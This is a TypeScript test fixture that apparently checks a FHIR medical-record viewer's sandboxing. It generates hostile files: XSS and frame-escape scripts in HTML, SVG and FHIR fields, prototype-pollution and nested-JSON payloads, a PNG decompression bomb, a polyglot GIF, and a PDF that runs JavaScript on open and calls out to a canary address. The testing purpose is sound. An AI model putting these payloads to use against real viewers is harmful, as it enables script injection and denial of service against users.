import { crc32, deflateSync } from 'node:zlib'

/** Contents that try to leave the frame in which they are shown: `elsewhere` is an address that must never be asked. */
export function hostileContents (elsewhere: string): Record<string, { mediaType: string, bytes: Uint8Array }> {
  const script = `fetch('${elsewhere}/script');parent.postMessage({type:'height',px:1},'*');top.location='${elsewhere}/top'`
  const html = `<script>${script}</script><img src="${elsewhere}/img" onerror="${script}"><link rel="stylesheet" href="${elsewhere}/css"><style>@import '${elsewhere}/import';body{background:url(${elsewhere}/background)}</style><iframe src="${elsewhere}/frame"></iframe><form action="${elsewhere}/form"><input autofocus onfocus="${script}"></form><meta http-equiv="refresh" content="0;url=${elsewhere}/refresh"><base href="${elsewhere}/">`
  const text = (value: string): Uint8Array => new TextEncoder().encode(value)
  const fhir = (resource: object): { mediaType: string, bytes: Uint8Array } => ({ mediaType: 'application/fhir+json', bytes: text(JSON.stringify(resource)) })
  return {
    narrative: fhir({
      resourceType: 'Observation',
      status: 'final',
      code: { text: html },
      text: { status: 'generated', div: `<div xmlns="http://www.w3.org/1999/xhtml">${html}</div>` },
      valueString: html,
      note: [{ text: `javascript:${script}` }]
    }),
    prototype: { mediaType: 'application/fhir+json', bytes: text('{"resourceType":"Basic","__proto__":{"polluted":true},"constructor":{"prototype":{"polluted":true}},"toString":"x"}') },
    attachment: fhir({ resourceType: 'DocumentReference', status: 'current', content: [{ attachment: { contentType: 'text/html', data: Buffer.from(html).toString('base64'), url: `${elsewhere}/attachment`, title: html } }] }),
    nested: { mediaType: 'application/fhir+json', bytes: text(`{"resourceType":"Basic","a":${'{"a":'.repeat(2_000)}1${'}'.repeat(2_000)}}`) },
    many: fhir({ resourceType: 'Bundle', entry: Array.from({ length: 25_000 }, (_, number) => ({ resource: { resourceType: 'Basic', id: String(number) } })) }),
    html: { mediaType: 'text/html', bytes: text(`<!doctype html>${html}`) },
    svg: { mediaType: 'image/svg+xml', bytes: text(`<svg xmlns="http://www.w3.org/2000/svg" onload="${script}"><script>${script}</script><image href="${elsewhere}/svg"/></svg>`) },
    svgAsPng: { mediaType: 'image/png', bytes: text(`<svg xmlns="http://www.w3.org/2000/svg" onload="${script}"/>`) },
    htmlAsText: { mediaType: 'text/plain', bytes: text(html) },
    polyglot: { mediaType: 'image/gif', bytes: text(`GIF89a/*${html}*/=1;${script}`) },
    pngBomb: { mediaType: 'image/png', bytes: png(50_000, 50_000) },
    pngLie: { mediaType: 'image/png', bytes: png(16, 16, Buffer.alloc(64)) },
    pdfScript: { mediaType: 'application/pdf', bytes: text(pdf(elsewhere)) },
    pdfDamaged: { mediaType: 'application/pdf', bytes: text(`%PDF-1.7\n${html}`) },
    dicomNothing: { mediaType: 'application/dicom', bytes: Buffer.concat([Buffer.alloc(128), Buffer.from('DICM'), Buffer.alloc(64, 0xff)]) }
  }
}

/** A picture of one colour; with `pixels`, its data are these, whatever its head says. */
export function png (width: number, height: number, pixels?: Uint8Array): Uint8Array {
  const head = Buffer.alloc(13)
  head.writeUInt32BE(width, 0)
  head.writeUInt32BE(height, 4)
  head.set([8, 0, 0, 0, 0], 8)
  // A bomb: some kilobytes that become gigabytes.
  const rows = pixels ?? Buffer.alloc(Math.min((width + 1) * height, 2 ** 24))
  return Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), chunk('IHDR', head), chunk('IDAT', deflateSync(rows)), chunk('IEND', Buffer.alloc(0))])
}

function chunk (type: string, data: Uint8Array): Buffer {
  const named = Buffer.concat([Buffer.from(type), data])
  const [length, sum] = [Buffer.alloc(4), Buffer.alloc(4)]
  length.writeUInt32BE(data.length)
  sum.writeUInt32BE(crc32(named))
  return Buffer.concat([length, named, sum])
}

/** A page with a text, and what a viewer could be brought to do: scripts at opening, a link, a form that submits, a file elsewhere. */
function pdf (elsewhere: string): string {
  const script = `app.launchURL('${elsewhere}/launch');this.submitForm('${elsewhere}/submit')`
  const content = 'BT /F1 24 Tf 72 700 Td (Quiet page) Tj ET'
  const objects = [
    `<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (${script.replaceAll(/[()]/g, String.raw`\$&`)}) >> /AA << /WC << /S /URI /URI (${elsewhere}/uri) >> >> >>`,
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> /Annots [6 0 R] >>',
    `<< /Length ${String(content.length)} >>\nstream\n${content}\nendstream`,
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
    `<< /Type /Annot /Subtype /Link /Rect [0 0 612 792] /A << /S /URI /URI (${elsewhere}/link) >> >>`
  ]
  let text = '%PDF-1.7\n'
  const offsets = objects.map((object, index) => {
    const at = text.length
    text += `${String(index + 1)} 0 obj\n${object}\nendobj\n`
    return at
  })
  const start = text.length
  text += `xref\n0 ${String(objects.length + 1)}\n0000000000 65535 f \n${offsets.map((at) => `${String(at).padStart(10, '0')} 00000 n \n`).join('')}`
  return `${text}trailer\n<< /Size ${String(objects.length + 1)} /Root 1 0 R >>\nstartxref\n${String(start)}\n%%EOF\n`
}
